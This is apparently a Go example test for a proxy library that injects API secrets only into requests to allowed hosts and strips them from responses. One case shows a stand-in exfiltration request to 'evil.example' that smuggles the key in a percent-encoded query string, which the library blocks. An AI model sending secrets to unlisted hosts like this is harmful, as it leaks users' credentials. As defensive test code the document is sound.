package secret_test

import (
	"fmt"
	"io"
	"strings"

	"github.com/sluicenet/sluice/mitm/secret"
)

// A request to the secret's host carries the value, the response comes back without
// it; a request to another host is refused.
func Example() {
	set, _, err := secret.New(secret.Config{Secrets: []secret.Secret{{
		EnvVar:     "API_KEY", // holds $MSB_API_KEY in the guest
		Value:      secret.NewValue("sk-live-4f9c0ffee"),
		AllowHosts: []string{"api.example.com"},
	}}})
	if err != nil {
		fmt.Println(err)
		return
	}

	r := set.Request(secret.Destination{Host: "api.example.com", Proof: secret.ProofTLS})
	head := secret.Head{Method: "GET", Path: "/v1/me", Header: map[string][]string{"Authorization": {"Bearer $MSB_API_KEY"}}}
	fmt.Println(r.Head(&head), head.Header["Authorization"])

	response := r.Response(200, map[string][]string{"Content-Type": {"application/json"}})
	body, err := io.ReadAll(response.Body(strings.NewReader(`{"you sent": "Bearer sk-live-4f9c0ffee"}`)))
	fmt.Println(string(body), err)

	r = set.Request(secret.Destination{Host: "evil.example", Proof: secret.ProofTLS})
	fmt.Println(r.Head(&secret.Head{Method: "GET", Path: "/?stolen=%24MSB_API_KEY"}))

	// Output:
	// <nil> [Bearer sk-live-4f9c0ffee]
	// {"you sent": "Bearer $MSB_API_KEY"} <nil>
	// send request to "evil.example": block API_KEY: path, percent-encoded, unlisted
}
